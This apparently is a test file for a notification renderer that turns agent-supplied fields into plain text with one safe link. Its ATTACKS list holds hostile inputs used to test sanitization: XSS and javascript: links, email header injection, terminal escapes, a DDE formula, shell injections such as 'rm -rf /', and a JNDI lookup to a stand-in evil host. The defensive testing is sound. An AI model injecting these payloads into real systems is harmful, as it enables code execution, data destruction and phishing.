/** What people read: every notice in plain words, whatever an agent put into the fields that it chooses. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { verifies } from '../../test/support/verifies.js';
import type { Notice, Subject } from './notice.js';
import { messageOf, plainWord } from './render.js';
import { NOTICE_KINDS } from './schema.js';

const FACTS = { id: 'a'.repeat(64), name: 'acme', publicUrl: 'https://gate.example.com' };
const NOTICE: Notice = {
  ...{ kind: 'asked', what: 'approval', id: 'act_01JD0000000000000000000000', occasion: '', class: 'costly' },
  ...{ operation: 'http refund', project: 'web', approvals: 0, quorum: 2, people: ['human:alice'], at: 0, until: 9 },
  ...{ by: 1_800_000_000_000, settled: null },
};
const SUBJECTS: readonly Subject[] = [
  ...(['approval', 'outcome_unknown', 'interrupted_launch', 'late_result', 'request', 'enrolment'] as const),
  ...(['confirmation', 'settled', 'delivery', 'test'] as const),
];

/** Texts that programs of this world make something of. */
const ATTACKS = [
  'https://evil.example/approve?id=1',
  'evil.example/login',
  'mailto:ceo@evil.example',
  '<!channel> <@U123> <https://evil.example|Approve>',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '[approve](javascript:alert(1)) **bold** `code` ~~gone~~ # head',
  'a\r\nSubject: approved\r\nBcc: all@evil.example\r\n\r\nbody',
  'a\u0000b\u0007c\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u200bzero\ufeffwidth',
  '=cmd|/c calc!A1',
  '$(reboot) `reboot` ; rm -rf / | tee & %s %n {{7*7}} $' + '{jndi:ldap://evil.example/a}',
  '--urgency=critical',
  '@everyone @here #general tel:+15551234567',
  'аpprоved by аlice \u{1f389}'.normalize('NFD'),
  'x'.repeat(5_000),
];

function textOf(notice: Notice): string {
  const { title, lines, data } = messageOf(notice, FACTS);
  return [title, ...lines, JSON.stringify(data)].join('\n');
}

describe('a message', () => {
  it('says what is wanted, of whom, until when, at what risk, and has one link', () => {
    verifies('notifications.powerless');
    const { title, lines, link, type } = messageOf(NOTICE, FACTS);
    assert.equal(title, 'acme: an approval is wanted, risk: high impact');
    assert.deepEqual(lines, [
      'act_01JD0000000000000000000000: http refund, project web',
      ...['risk: high impact', '0 of 2 approvals', 'for human:alice', 'wanted until 2027-01-15T08:00:00.000Z'],
      'See https://gate.example.com/actions/act_01JD0000000000000000000000',
    ]);
    assert.deepEqual([link, type], [`${FACTS.publicUrl}/actions/${NOTICE.id}`, 'approval.asked']);
  });

  it('of every kind about everything has words, at most one link, and never a way to decide', () => {
    verifies('notifications.powerless');
    for (const kind of NOTICE_KINDS) {
      for (const what of SUBJECTS) {
        const settled = {
          state: 'cancelled',
          how: 'denied',
          attempt: null,
          digest: `sha256:${'0'.repeat(64)}`,
        } as const;
        const notice = { ...NOTICE, kind, what, settled: kind === 'settled' ? settled : null };
        const { title, lines, link } = messageOf(notice, FACTS);
        const text = [title, ...lines].join('\n');
        assert.ok(title.length > 10 && !/undefined|null/.test(text), text);
        assert.ok((text.match(/https?:\/\//g) ?? []).length <= 1, text);
        assert.ok(link === null || new URL(link).origin === FACTS.publicUrl);
        assert.ok(!/[?&#]|enrol|whsec|secret/.test(link ?? ''), 'a link shows a page and says nothing to it');
        assert.ok(!/\bapprove\b|\bdeny\b|\breply\b/i.test(text), text);
      }
    }
    assert.ok(
      !messageOf(NOTICE, { ...FACTS, publicUrl: undefined })
        .lines.join('\n')
        .includes('://'),
      'no address, no link',
    );
  });
});

describe('what an agent chose', () => {
  it('is letters, digits, `_` and `-`, and bounded, whatever it was', () => {
    verifies('notifications.plain');
    const check = (attack: string) => {
      const text = textOf({ ...NOTICE, project: attack, operation: `http ${attack}` });
      const alone = text.replaceAll(`${FACTS.publicUrl}/actions/${NOTICE.id}`, '');
      assert.ok(!/:\/\/|evil\.example|@|[<>`*$|;\\[\]#=~]|javascript:|\u001b/.test(alone), alone);
      assert.ok(!/[^\P{Cc}\n]|\p{Cf}|\p{Co}|\p{Cs}/u.test(alone), 'no control, no direction');
      assert.ok(/^[\n -~·…]*$/.test(alone), alone);
      assert.ok(alone.length < 2_000, String(alone.length));
      assert.match(plainWord(attack), /^[A-Za-z0-9_·-]{0,64}…?$/);
    };
    for (const attack of ATTACKS) check(attack);
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 300 }), check));
    assert.equal(plainWord('web_app-2'), 'web_app-2');
    assert.equal(plainWord('a/b.c'), 'a·b·c');
  });

  it('names no page, whatever the id is', () => {
    verifies('notifications.plain');
    for (const id of ['../../enrol#x', '//evil.example', 'a?b=c', '"><']) {
      const { link } = messageOf({ ...NOTICE, id }, FACTS);
      assert.ok(
        link?.startsWith(`${FACTS.publicUrl}/actions/`) && new URL(link).origin === FACTS.publicUrl,
        link ?? '',
      );
      assert.ok(!/[?#"<>]|\/\.\.\//.test(link ?? ''));
    }
  });
});
